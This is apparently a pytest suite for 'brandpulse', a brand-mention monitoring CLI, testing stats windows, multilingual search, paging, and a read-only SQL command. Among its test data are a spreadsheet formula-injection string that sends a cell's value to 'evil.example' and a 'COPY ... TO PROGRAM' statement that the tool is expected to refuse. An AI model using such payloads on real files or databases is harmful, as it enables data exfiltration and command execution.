def test_stats_at_the_end_of_the_calendar_lists_its_last_buckets(invoke, sqlite_store_path, monkeypatch):
    monkeypatch.setattr("brandpulse.commands.stats._now", lambda: datetime(9999, 12, 31, 12, tzinfo=timezone.utc))
    rows = _json(invoke, sqlite_store_path, "stats", "--brand", "Pinebrook Coffee", "--by", "week",
                 "--since", "9999-12-20", "--until", "9999-12-31T12:00:00")

    # The last week would end in year 10000, which Python's dates do not reach; --until cuts it (partial).
    assert [(r["bucket"], r["total"], r["partial"]) for r in rows] == [("9999-12-20", 0, False),
                                                                       ("9999-12-27", 0, True)]


@pytest.mark.parametrize("since", ["2026-03-03", "2026-03-02T09:00:01Z", "9999-12-20"])
def test_stats_over_a_window_starting_after_now_is_a_usage_error_saying_so_on_both_backends(
        invoke, store_path, monkeypatch, since):
    monkeypatch.setattr("brandpulse.commands.stats._now", lambda: datetime(2026, 3, 2, 9, tzinfo=timezone.utc))

    result = invoke("--db", store_path, "stats", "--since", since, "--format", "json")

    # Was: every bucket listed with zeros and partial true, as if the brand had gone quiet.
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "Invalid value for --since" in result.output
    assert "is after now (2026-03-02T09:00:00Z): no bucket of the window has begun" in " ".join(result.output.split())


def test_stats_lists_the_buckets_of_a_window_reaching_past_now_to_come_as_partial(invoke, store_path, monkeypatch):
    monkeypatch.setattr("brandpulse.commands.stats._now", lambda: datetime(2026, 3, 2, 9, tzinfo=timezone.utc))

    rows = _json(invoke, store_path, "stats", "--brand", "Bolt", "--since", "2026-03-01", "--until", "2026-03-04")

    # Today is in progress, tomorrow to come: neither covered whole, both partial (their zeros are no drop).
    assert [(r["bucket"], r["partial"]) for r in rows] == [("2026-03-01", False), ("2026-03-02", True),
                                                           ("2026-03-03", True)]


@pytest.mark.parametrize(("statement", "hint"), [
    ("SELECT ?", "values are given by name: write :name in the statement and add -p name=VALUE"),
    ("SELECT * FROM mentions WHERE id = :id", "no value given for :id (add -p id=VALUE)")])
def test_sql_with_a_parameter_no_param_gives_is_an_sql_error_on_both_backends(invoke, store_path, statement, hint):
    result = invoke("--db", store_path, "sql", statement)

    # Not the 'connection to the server lost' of a server gone away, which PostgreSQL's bind error was read as.
    assert result.exit_code == 1 and result.output.startswith("Error: SQL error: ")
    assert "connection" not in result.output
    # Was: SQLite's 'Incorrect number of bindings supplied', naming neither the parameter nor -p.
    assert hint in result.output


def test_sql_names_the_one_parameter_left_without_a_value_not_a_cast_or_a_time(invoke, store_path):
    result = invoke("--db", store_path, "sql", "SELECT '12:30' AS t, CAST(:a AS TEXT) AS a, :b AS b", "-p", "a=1")

    assert result.exit_code == 1 and "no value given for :b (add -p b=VALUE)" in result.output
    assert ":30" not in result.output.partition(";")[2]


def test_sql_refuses_a_parameter_given_twice_and_warns_of_one_the_statement_does_not_use(invoke, store_path):
    twice = invoke("--db", store_path, "sql", "SELECT :a AS a", "-p", "a=1", "-p", "a=2")
    unused = invoke("--db", store_path, "sql", "SELECT :brand AS b", "-p", "brand=Acme", "-p", "brnad=Bolt",
                    "--format", "json")

    # Was: the last value silently used, and a misspelt parameter silently dropped.
    assert twice.exit_code == 2 and "a is given twice ('1' and '2')" in twice.output
    assert unused.exit_code == 0 and json.loads(unused.stdout) == [{"b": "Acme"}]
    assert "Warning: --param brnad: the statement has no :brnad; the value is not used" in unused.stderr


@pytest.mark.parametrize("blank", [" ", "\t"])
def test_a_blank_store_is_a_usage_error_and_no_file_is_made(invoke, tmp_path, monkeypatch, blank):
    monkeypatch.chdir(tmp_path)

    by_option = invoke("--db", blank, "status")
    monkeypatch.setenv("BRANDPULSE_DB", blank)
    by_variable = invoke("stats")

    # Was: a store file named " " made in the working directory.
    for result in (by_option, by_variable):
        assert result.exit_code == 2 and "--db / BRANDPULSE_DB" in result.output and "is blank" in result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", ["query", "export"])
def test_a_search_for_a_japanese_or_thai_word_inside_a_sentence_finds_it_on_both_backends(invoke, store_target,
                                                                                          command):
    texts = ["Pinebrookのコーヒーは最高です☕", "สาขานี้กาแฟอร่อยมาก", "great coffee"]
    path = seed(store_target, [mention(k, text, NOW, "positive") for k, text in enumerate(texts, start=1)])

    for search, expected in [("コーヒー", texts[:1]), ("กาแฟ", texts[1:2]), ("กาแฟ OR coffee", texts[1:])]:
        result = invoke("--db", path, command, "--search", search, "--format", "json")

        # Was: nothing found (the run 'pinebrookのコーヒーは最高です' is one word to the index), and a note
        # pointing to `brandpulse sql ... LIKE`.
        assert result.exit_code == 0 and sorted(row["text"] for row in json.loads(result.stdout)) == sorted(expected)
        assert "written without spaces" not in result.stderr


def test_a_search_beside_japanese_words_refuses_what_it_cannot_read_naming_it(invoke, store_path):
    result = invoke("--db", store_path, "query", "--search", "コーヒー NEAR(a b)")

    assert result.exit_code == 2 and "NEAR() is not supported beside Chinese, Japanese or Thai terms" in result.output


def test_a_search_in_spaced_scripts_has_no_note(invoke, store_path):
    result = invoke("--db", store_path, "query", "--search", "refund", "--format", "json")

    assert result.exit_code == 0 and "written without spaces" not in result.stderr


def test_query_table_cuts_a_japanese_text_to_as_many_columns_as_an_english_one(invoke, tmp_path):
    from brandpulse.commands.output import TABLE_CELL

    japanese = "今月の料金が二重請求されています。早く返金してください。サポートに電話してもつながりません。本当に困っています。"
    store = seed(tmp_path / "ja.db", [mention(1, japanese, NOW - timedelta(hours=1), "negative"),
                                      mention(2, "refund " * 20, NOW - timedelta(hours=2), "negative")])

    result = invoke("--db", store, "query", "--columns", "text,label", "--order", "newest")

    ja, en = result.output.splitlines()[2:]
    # Was: 60 characters, 120 columns: twice as wide as the English cell, off an ordinary screen.
    assert ja.startswith("今月の料金") and _columns(ja) == _columns(en) == TABLE_CELL + 2 + len("negative")


@pytest.fixture
def server_writable():
    """A folder the database server's own user may write to: pgserver runs it as another user when tests run as root,
    and pytest's tmp_path is its owner's alone."""
    folder = Path(tempfile.mkdtemp(prefix="brandpulse-server-"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_sql_refuses_a_copy_to_a_server_file_or_program_saying_it_runs_queries_only(
        invoke, store_path, server_writable):
    folder = server_writable
    statements = [f"COPY mentions TO '{folder / 'dump.txt'}'",
                  f"COPY (SELECT 1) TO PROGRAM 'touch {folder / 'ran'}'",
                  f"/* a comment */ (COPY mentions TO '{folder / 'again.txt'}')"]

    results = [invoke("--db", store_path, "sql", statement) for statement in statements]

    # Was, on PostgreSQL: the file written and the program run (a read-only transaction allows COPY ... TO), then
    # 'SQL error: the last operation didn't produce records (command status: COPY 5)'.
    assert list(folder.iterdir()) == []
    for result in results:
        assert result.exit_code == 1
        assert result.output.startswith("Error: brandpulse sql is read-only: it runs one query (SELECT, WITH, VALUES")
        assert "not COPY" in result.output


@pytest.mark.parametrize("statement", ["SELECT 1 AS n", "  -- why\nSELECT 1 AS n", "/* a */ VALUES (1)",
                                       "WITH x AS (SELECT 1 AS n) SELECT n FROM x"])
def test_sql_still_runs_every_form_of_query(invoke, store_path, statement):
    result = invoke("--db", store_path, "sql", statement, "--format", "json")

    assert result.exit_code == 0, result.output
    assert list(json.loads(result.stdout)[0].values()) == [1]


@pytest.mark.parametrize("statement", ["PRAGMA journal_mode = DELETE", "PRAGMA query_only = OFF",
                                       "pragma main.cache_size=-100000"])
def test_sql_refuses_a_pragma_setting_naming_it_and_still_reads_pragmas(invoke, sqlite_store_path, statement):
    name = statement.split("=")[0].split(".")[-1].split()[-1]

    result = invoke("--db", sqlite_store_path, "sql", statement)
    read = invoke("--db", sqlite_store_path, "sql", f"PRAGMA {name}")
    schema = invoke("--db", sqlite_store_path, "sql", "PRAGMA table_info(brands)", "--format", "json")

    # Was: 'SQL error: disk I/O error' for journal_mode (a broken disk, to the reader), and query_only taken.
    assert result.exit_code == 1
    assert result.output == (f"Error: brandpulse sql is read-only: PRAGMA {name} given a value changes a setting, "
                             f"refused; PRAGMA {name} alone reads it\n")
    assert read.exit_code == 0 and schema.exit_code == 0
    assert [c["name"] for c in json.loads(schema.stdout)][:2] == ["name", "keywords"]
    assert sqlite3.connect(sqlite_store_path).execute("PRAGMA journal_mode").fetchone() == ("wal",)


def test_sql_refuses_a_setting_on_postgresql_too(invoke, store_path):
    statement = "PRAGMA cache_size = 1" if not str(store_path).startswith("postgresql") else "SET work_mem = '1GB'"

    result = invoke("--db", store_path, "sql", statement)

    assert result.exit_code == 1 and result.output.startswith("Error: brandpulse sql is read-only: ")


ROUND_TRIP = ("source", "external_id", "brand", "author", "url", "text", "created_at", "lang", "rating", "label",
              "provenance", "amplification", "dated_after")


def _stored(target, columns=ROUND_TRIP):
    db = open_db(target, read_only=True)
    try:
        return {row[1]: dict(zip(columns, row)) for row in db.execute(
            f"SELECT {', '.join(columns)} FROM mentions ORDER BY external_id").fetchall()}
    finally:
        db.close()


def test_an_export_ingested_again_gives_the_same_rows_texts_and_all(invoke, store_target, tmp_path):
    texts = ['=HYPERLINK("https://evil.example/?"&A1, "click") Pinebrook', '@SUM(1+1) Pinebrook', "-2 stars, Pinebrook",
             'Pinebrook "quoted", with a comma\nline two\r\nline three\tand a tab', "Pinebrook 😀🎉 👍🏽 café ＡＣＭＥ"]
    source = seed(store_target, [mention(i, text, NOW - timedelta(hours=i), "negative", rating=2 if i == 2 else None,
                                         lang="en-GB" if i == 3 else "en") for i, text in enumerate(texts, start=1)])
    db = open_db(source)
    with transaction(db):
        db.execute("UPDATE mentions SET amplification = 7, dated_after = :d WHERE external_id = '1'",
                   {"d": "2026-03-01T10:00:00Z"})
        db.execute("UPDATE mentions SET provenance = 'model', model = 'm' WHERE external_id = '5'")
    db.close()
    config = write_config(tmp_path / "c.yaml", "brands: [{name: Pinebrook Coffee, keywords: [pinebrook]}]\n")

    exported = invoke("--db", source, "export", "-o", tmp_path / "out.jsonl")
    result = invoke("--config", config, "--db", tmp_path / "copy.db", "ingest", "--no-classify", tmp_path / "out.jsonl")

    # Was: '... line 1: unknown field(s): amplification, answered_at, ..., external_id, ...', every line refused.
    assert exported.exit_code == 0 and result.exit_code == 0, result.output
    assert result.stdout.startswith("5 new, 0 duplicate, 0 invalid")
    before, after = _stored(source), _stored(tmp_path / "copy.db")
    # The model's label is the importing store's model's to give (--no-classify: not yet); imported ones are kept.
    assert after.pop("5")["label"] is None and before.pop("5")["label"] == "negative"
    assert after == before
    assert after["1"]["amplification"] == 7 and after["4"]["text"] == texts[3]


@pytest.mark.parametrize("statement", ["SELECT nope FROM mentions WHERE url LIKE '%?utm=%'",
                                       "SELECT nope FROM mentions WHERE text = 'note:abc' -- or :other?"])
def test_sql_error_sends_nobody_to_p_for_a_question_mark_or_colon_in_a_literal_or_comment(invoke, store_path, statement):
    result = invoke("--db", store_path, "sql", statement)

    # Was: 'SQL error: no such column: nope; values are given by name: write :name ... and add -p name=VALUE', or
    # 'no value given for :abc (add -p abc=VALUE)', for the text of a URL or a note.
    assert result.exit_code == 1 and "nope" in result.output
    assert "-p" not in result.output and "given by name" not in result.output


@pytest.mark.parametrize("command", ["query", "export"])
def test_a_column_given_twice_is_a_usage_error_naming_it(invoke, store_path, command):
    result = invoke("--db", store_path, command, "--columns", "id,text,id", "--format", "csv")

    # Was: CSV with two id columns, where JSON kept one.
    assert result.exit_code == 2 and "column(s) given more than once: id" in result.output


@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin", "Asia/Kolkata"])
@pytest.mark.parametrize("args", [("--source", "Reddit"), ("--lang", "en"), ("--lang", "HE"),
                                  ("--source", "twitter", "--lang", "de"), ("--source", "nowhere")])
def test_stats_source_and_lang_count_what_query_lists_in_every_zone_on_both_backends(invoke, store_target, zone, args):
    start = datetime(2026, 3, 1, 22, 15, tzinfo=timezone.utc)  # around midnight in Berlin, half past in Kolkata
    spec = [("twitter", "en"), ("reddit", "en-GB"), ("twitter", "de"), ("appstore", "en_US"), ("reddit", "iw"),
            ("twitter", None), ("reddit", "de")]
    path = seed(store_target, [mention(i, "x", start + timedelta(minutes=25 * i), "neutral", source=source, lang=lang)
                               for i, (source, lang) in enumerate(spec * 3)])
    window = ("--since", "2026-03-01T00:00:00Z", "--until", "2026-03-04T00:00:00Z", "--tz", zone)

    listed = _json(invoke, path, "query", "--all", *window, *args)
    rows = _json(invoke, path, "stats", "--by", "hour", *window, *args)
    days = _json(invoke, path, "stats", "--by", "day", *window, *args)

    assert sum(r["total"] for r in rows) == sum(r["total"] for r in days) == len(listed)
    assert len(listed) < len(spec) * 3
    assert sum(r["total"] for r in _json(invoke, path, "stats", "--by", "day", *window)) == len(spec) * 3


def test_stats_lang_that_is_no_language_code_is_a_usage_error_as_in_query(invoke, sqlite_store_path):
    result = invoke("--db", sqlite_store_path, "stats", "--lang", "english")

    assert result.exit_code == 2 and "--lang" in result.output and "ISO 639-1" in result.output


@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin", "Asia/Kolkata"])
@pytest.mark.parametrize("args", [("--category", "detractor"), ("--category", "unscored"),
                                  ("--category", "passive", "--source", "Reddit")])
def test_stats_category_counts_what_query_lists_in_every_zone_on_both_backends(invoke, store_target, zone, args):
    start = datetime(2026, 3, 1, 22, 15, tzinfo=timezone.utc)
    spec = [("twitter", "negative"), ("reddit", "neutral"), ("twitter", "positive"), ("reddit", None),
            ("twitter", "neutral")]
    path = seed(store_target, [mention(i, "x", start + timedelta(minutes=25 * i), label, source=source)
                               for i, (source, label) in enumerate(spec * 3)])
    db = open_db(path)
    with transaction(db):  # read by no model: unscored, as a mention in a language none reads
        db.execute("UPDATE mentions SET category = 'unscored' WHERE label IS NULL")
    db.close()
    window = ("--since", "2026-03-01T00:00:00Z", "--until", "2026-03-04T00:00:00Z", "--tz", zone)

    listed = _json(invoke, path, "query", "--all", *window, *args)
    rows = _json(invoke, path, "stats", "--by", "hour", *window, *args)

    # Was: no such option; each row now counts that category alone, in its total and its own column.
    assert sum(r["total"] for r in rows) == len(listed) == 3
    column = {"detractor": "detractors", "unscored": "unscored", "passive": "passives"}[args[1]]
    assert sum(r[column] for r in rows) == 3


def test_stats_category_that_is_no_category_is_a_usage_error_as_in_query(invoke, sqlite_store_path):
    result = invoke("--db", sqlite_store_path, "stats", "--category", "angry")

    assert result.exit_code == 2 and "--category" in result.output and "detractor" in result.output


@pytest.mark.parametrize("args", [("--order", "newest"), ("--order", "oldest"), ("--order", "complaint"),
                                  ("--search", "refund"), ("--search", "refund", "--order", "relevance"),
                                  ("--search", "払い戻し OR refund", "--order", "oldest")])
def test_query_offset_pages_through_every_match_once_in_order_on_both_backends(invoke, store_target, args):
    at = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)  # one publication time: only the tie-breaks order them
    path = seed(store_target, [mention(i, "refund please" if i % 2 else "refund", at + timedelta(hours=i // 4),
                                       "negative") for i in range(11)])

    every = [r["id"] for r in _json(invoke, path, "query", "--all", *args)]
    pages = [[r["id"] for r in _json(invoke, path, "query", "--limit", "4", "--offset", str(start), *args)]
             for start in (0, 4, 8, 12)]

    # Was: no such option; a page past the end is empty, and --all with --offset skips as many.
    assert len(every) == 11 and [i for page in pages for i in page] == every and pages[3] == []
    assert [r["id"] for r in _json(invoke, path, "query", "--all", "--offset", "9", *args)] == every[9:]


@pytest.mark.parametrize("value", ["-1", "two", "99999999999999999999"])
def test_query_offset_that_is_no_row_count_is_a_usage_error_naming_it(invoke, sqlite_store_path, value):
    result = invoke("--db", sqlite_store_path, "query", "--offset", value)

    assert result.exit_code == 2 and "Invalid value for '--offset'" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("command", ["query", "export", "stats"])
def test_a_brand_the_store_does_not_hold_is_named_on_stderr_with_the_ones_it_does_on_both_backends(invoke, store_path,
                                                                                                  command):
    typo = invoke("--db", store_path, command, "--brand", "Pinebrok Coffee")
    known = invoke("--db", store_path, command, "--brand", "northwind")

    # Was: an empty list and nothing more, as for a brand with no mention in the window.
    assert typo.exit_code == 0 and "Pinebrook" not in typo.stdout
    assert ("Note: the store holds no brand 'Pinebrok Coffee'; its brands: 'Northwind', 'Pinebrook Coffee'."
            in typo.stderr)
    assert known.exit_code == 0 and known.stderr == ""


@pytest.mark.parametrize("statement", ["", "   ", "/* nothing */ \n"])
def test_sql_of_an_empty_statement_says_it_is_empty_on_both_backends(invoke, store_path, statement):
    result = invoke("--db", store_path, "sql", statement)

    # Was: '... not a statement without a keyword', as for a typo such as 'SELEC 1'.
    assert result.exit_code == 1 and "not an empty statement (nothing but spaces or comments)" in result.output
